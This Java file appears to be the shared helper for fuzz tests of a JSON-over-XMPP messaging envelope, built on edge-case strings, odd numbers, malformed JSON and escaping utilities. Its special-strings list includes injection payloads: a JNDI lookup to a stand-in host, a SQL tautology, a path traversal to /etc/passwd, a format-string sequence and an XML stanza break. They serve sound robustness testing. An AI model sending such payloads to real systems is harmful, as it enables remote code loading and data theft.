package im.tlim.it;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.TextNode;
import java.math.BigDecimal;
import java.math.BigInteger;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Random;
import java.util.UUID;

/**
 * What both fuzzers need: the odd values they try, a JSON object writer that also writes what a
 * tree cannot hold (a key twice, a bare token), and a printable form of any input.
 */
final class FuzzText {

  private FuzzText() {}

  /** A JSON value written as is (a bare {@code NaN}, a deep nesting, broken JSON). */
  record Raw(String json) {}

  /** One field of an object being written: the value is a JsonNode or a {@link Raw}. */
  static final class Field {
    String key;
    Object value;

    Field(String key, Object value) {
      this.key = key;
      this.value = value;
    }
  }

  static final JsonNodeFactory NODES = JsonNodeFactory.instance;

  /** Strings that have broken parsers, databases and XML streams before. */
  static final List<String> SPECIAL_STRINGS =
      List.of(
          "",
          " ",
          "\t",
          "\n",
          "null",
          "undefined",
          "true",
          "0",
          "-1",
          "2147483648",
          "-2147483649",
          "9223372036854775808",
          "1e309",
          "-1e309",
          "NaN",
          "Infinity",
          "-0",
          "0x1F",
          "1.5",
          "１２３",
          "\u0000",
          "a\u0000b",
          "\u0001\u0002\u001f",
          "\u007f",
          "\u0085",
          "\u2028\u2029",
          "\ufeff",
          "\ufffe",
          "\uffff",
          "\ud800",
          "x\udc00y",
          "\ud83d\ude00",
          "👩‍👩‍👧‍👦",
          "ﷺ",
          "\u202eevil",
          "Z̤͔ͧ̑̓ä͖̭̈̇lͮ̒ͫǧ̗͚̚o",
          "你好世界",
          "\\",
          "\"",
          "'",
          "\\u0000",
          "<body>",
          "</body></message><message>",
          "]]>",
          "&amp;",
          "&#0;",
          "${jndi:ldap://x.test/a}",
          "' or '1'='1",
          "%00",
          "%",
          "%25",
          "%s%n",
          "../../etc/passwd",
          "a:b",
          "p:a:b",
          "/",
          "user@test.local",
          "user@test.local/res",
          "x".repeat(64),
          "x".repeat(65),
          "x".repeat(129),
          "x".repeat(161),
          "x".repeat(513),
          "é".repeat(33),
          "😀".repeat(33),
          "x".repeat(4001),
          "x".repeat(10_000));

  /** Strings too large for an envelope (64 KiB) but not for the XMPP server's stanza limit. */
  static String oversize(Random random) {
    return switch (random.nextInt(3)) {
      case 0 -> "x".repeat(65_537);
      case 1 -> "é".repeat(32_769); // 65538 bytes in 32769 chars
      default -> "語".repeat(22_000); // 66000 bytes
    };
  }

  /** Numbers at and past the limits, as JSON numbers and bare tokens. */
  static Object oddNumber(Random random) {
    return switch (random.nextInt(14)) {
      case 0 -> NODES.numberNode(Integer.MAX_VALUE);
      case 1 -> NODES.numberNode(2147483648L);
      case 2 -> NODES.numberNode(-1);
      case 3 -> NODES.numberNode(0);
      case 4 -> NODES.numberNode(Long.MAX_VALUE);
      case 5 -> NODES.numberNode(new BigInteger("9223372036854775808"));
      case 6 -> NODES.numberNode(new BigInteger("-99999999999999999999999999"));
      case 7 -> new Raw("1e309");
      case 8 -> new Raw("-1e309");
      case 9 -> new Raw("NaN");
      case 10 -> new Raw("Infinity");
      case 11 -> NODES.numberNode(new BigDecimal("1.5"));
      case 12 -> new Raw("0x10");
      default -> new Raw("01");
    };
  }

  /** Number-like texts at and past the limits. */
  static final List<String> ODD_NUMBER_TEXTS =
      List.of(
          "2147483647",
          "2147483648",
          "-1",
          "0",
          "-0",
          "9223372036854775807",
          "9223372036854775808",
          "99999999999999999999",
          "999999999999999999999",
          "1e309",
          "NaN",
          "Infinity",
          "1.5",
          " 12 ",
          "0x10",
          "01",
          "+1",
          "1_000",
          "١٢٣",
          "",
          "max",
          "MAX",
          "-2147483649");

  /** A value of some JSON type: the wrong one for most fields. */
  static Object wrongType(Random random) {
    return switch (random.nextInt(10)) {
      case 0 -> NODES.numberNode(1);
      case 1 -> NODES.numberNode(new BigDecimal("2.5"));
      case 2 -> NODES.booleanNode(random.nextBoolean());
      case 3 -> NODES.nullNode();
      case 4 -> NODES.arrayNode();
      case 5 -> NODES.objectNode();
      case 6 -> NODES.arrayNode().add("x").add(1);
      case 7 -> NODES.objectNode().put("a", 1).set("b", NODES.arrayNode().add(NODES.objectNode()));
      case 8 -> new Raw(nesting(random.nextInt(3) == 0 ? 40 : 5, random.nextBoolean()));
      default -> NODES.arrayNode().add(NODES.objectNode().put("text", "inside"));
    };
  }

  /** {@code [[[…]]]} or {@code {"a":{"a":…}}}, {@code depth} deep. */
  static String nesting(int depth, boolean arrays) {
    return arrays
        ? "[".repeat(depth) + "]".repeat(depth)
        : "{\"a\":".repeat(depth) + "1" + "}".repeat(depth);
  }

  static String special(Random random) {
    return SPECIAL_STRINGS.get(random.nextInt(SPECIAL_STRINGS.size()));
  }

  static <T> T pick(Random random, List<T> list) {
    return list.get(random.nextInt(list.size()));
  }

  /** A UUID made from the run's random numbers, so a seed gives the same ids again. */
  static String uuid(Random random) {
    return new UUID(random.nextLong(), random.nextLong()).toString();
  }

  /** A JSON object of these fields, in order, keys repeated as they are. */
  static String object(List<Field> fields) {
    StringBuilder out = new StringBuilder("{");
    for (Field f : fields) {
      if (out.length() > 1) {
        out.append(',');
      }
      out.append(TextNode.valueOf(f.key).toString()).append(':').append(json(f.value));
    }
    return out.append('}').toString();
  }

  static String json(Object value) {
    return value instanceof Raw raw ? raw.json() : value.toString();
  }

  static List<Field> fields(JsonNode object) {
    List<Field> fields = new ArrayList<>();
    object.fields().forEachRemaining(e -> fields.add(new Field(e.getKey(), e.getValue())));
    return fields;
  }

  /**
   * The text with every character XML 1.0 forbids (most controls, U+FFFE/U+FFFF, unpaired
   * surrogates) written as a JSON {@code \\u} escape: raw, it would make the XMPP server close the
   * sending client's stream, which is not what an envelope fuzz tests. Inside a JSON string the
   * escape means the same character, so the server still gets it. The {@code >} of {@code ]]>} is
   * escaped too: Smack writes it as it is, which XML forbids.
   */
  static String xmlSafe(String text) {
    StringBuilder out = null;
    for (int i = 0; i < text.length(); i++) {
      char c = text.charAt(i);
      boolean legal;
      if (Character.isHighSurrogate(c)) {
        legal = i + 1 < text.length() && Character.isLowSurrogate(text.charAt(i + 1));
        if (legal) {
          if (out != null) {
            out.append(c).append(text.charAt(i + 1));
          }
          i++;
          continue;
        }
      } else if (Character.isLowSurrogate(c)) {
        legal = false;
      } else {
        legal = c == '\t' || c == '\n' || c == '\r' || (c >= 0x20 && c != 0xFFFE && c != 0xFFFF);
      }
      if (c == '>' && i >= 2 && text.charAt(i - 1) == ']' && text.charAt(i - 2) == ']') {
        legal = false; // "]]>" may not stand in XML text, and Smack does not escape it
      }
      if (!legal && out == null) {
        out = new StringBuilder(text.length() + 16).append(text, 0, i);
      }
      if (out != null) {
        if (legal) {
          out.append(c);
        } else {
          out.append(String.format("\\u%04x", (int) c));
        }
      }
    }
    return out == null ? text : out.toString();
  }

  /** A printable rendition: long runs shortened, controls and odd characters escaped. */
  static String printable(String text, int max) {
    StringBuilder out = new StringBuilder();
    int i = 0;
    while (i < text.length() && out.length() < max) {
      char c = text.charAt(i);
      int run = 1;
      while (i + run < text.length() && text.charAt(i + run) == c) {
        run++;
      }
      if (run > 12) {
        out.append(escape(c)).append("…(×").append(run).append(")");
        i += run;
        continue;
      }
      out.append(escape(c));
      i++;
    }
    if (i < text.length()) {
      out.append("…(").append(text.length() - i).append(" more chars)");
    }
    return out.toString();
  }

  private static String escape(char c) {
    if (c < 0x20
        || c == 0x7f
        || (c >= 0xd800 && c <= 0xdfff)
        || c == 0xfffe
        || c == 0xffff
        || c == 0xfeff
        || c == 0x202e
        || c == 0x2028
        || c == 0x2029
        || c == 0x85) {
      return String.format("<U+%04X>", (int) c);
    }
    return String.valueOf(c);
  }

  /** Bytes as text when they are UTF-8, else with every byte outside printable ASCII as %XX. */
  static String printable(byte[] bytes, int max) {
    var decoder = StandardCharsets.UTF_8.newDecoder();
    try {
      return printable(decoder.decode(java.nio.ByteBuffer.wrap(bytes)).toString(), max);
    } catch (java.nio.charset.CharacterCodingException e) {
      StringBuilder out = new StringBuilder("(not UTF-8) ");
      for (byte b : bytes) {
        if (out.length() > max) {
          out.append("…");
          break;
        }
        int v = b & 0xff;
        out.append(
            v >= 0x20 && v < 0x7f && v != '%'
                ? String.valueOf((char) v)
                : String.format("%%%02X", v));
      }
      return out.toString();
    }
  }
}
